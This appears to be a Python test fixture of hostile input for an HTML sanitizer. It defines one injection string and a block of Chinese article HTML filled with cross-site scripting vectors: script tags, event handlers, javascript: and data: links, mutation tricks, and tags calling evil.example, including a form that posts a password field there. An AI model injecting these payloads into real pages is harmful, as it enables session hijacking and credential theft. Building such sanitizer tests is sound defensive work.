"""What a hostile mirror would put into an article, of our own writing."""

HOSTILE_TEXT = "\"'><script>document.title='owned'</script><img src=x onerror=alert(1)><!--{{7*7}}"

HOSTILE_HTML = """
<p>正文的第一段。</p>
<script>document.title = 'owned'</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="document.title = 'owned'">
<img src="https://evil.example/beacon.gif" width="0" height="0" onload="document.title='owned'">
<a href="javascript:document.title='owned'" id="js">一</a>
<a href=" java&#10;script:document.title='owned'">二</a>
<a href="data:text/html,<script>document.title='owned'</script>">三</a>
<a href="vbscript:x">四</a>
<a href="//evil.example/" onclick="document.title='owned'">五</a>
<a href="/relative" ping="https://evil.example/ping" style="position:fixed;inset:0">六</a>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">盖住一切</p>
<style>body{display:none} @import url(https://evil.example/x.css);</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example/login" id="f"><input name="password" type="password">
<button formaction="https://evil.example/">登录</button></form>
<input form="f" autofocus onfocus="document.title='owned'">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/">
<svg><script>document.title='owned'</script><a xlink:href="javascript:alert(1)"><text>七</text></a>
<image href="https://evil.example/i.png"/><animate onbegin="document.title='owned'"/></svg>
<svg onload="document.title='owned'"></svg>
<iframe src="https://evil.example/"
 srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<video src="javascript:alert(1)" poster="https://evil.example/p.png" autoplay></video>
<details open ontoggle="document.title='owned'"><summary>八</summary></details>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img srcset="https://evil.example/1.png 1x" src="https://i.example.org/ok.jpg">
<template><script>document.title='owned'</script></template>
<noscript><p title="</noscript><img src=x onerror=document.title='owned'>"></noscript>
<p id="about" class="about" name="x">名字</p>
<!--[if IE]><script>document.title='owned'</script><![endif]-->
<p>正文的最后一段。</p>
</div></main></body></html>
<math><mtext><table><mglyph><style><img src=x onerror="document.title='owned'"></style></math>
<script>document.title='owned'</script>
"""
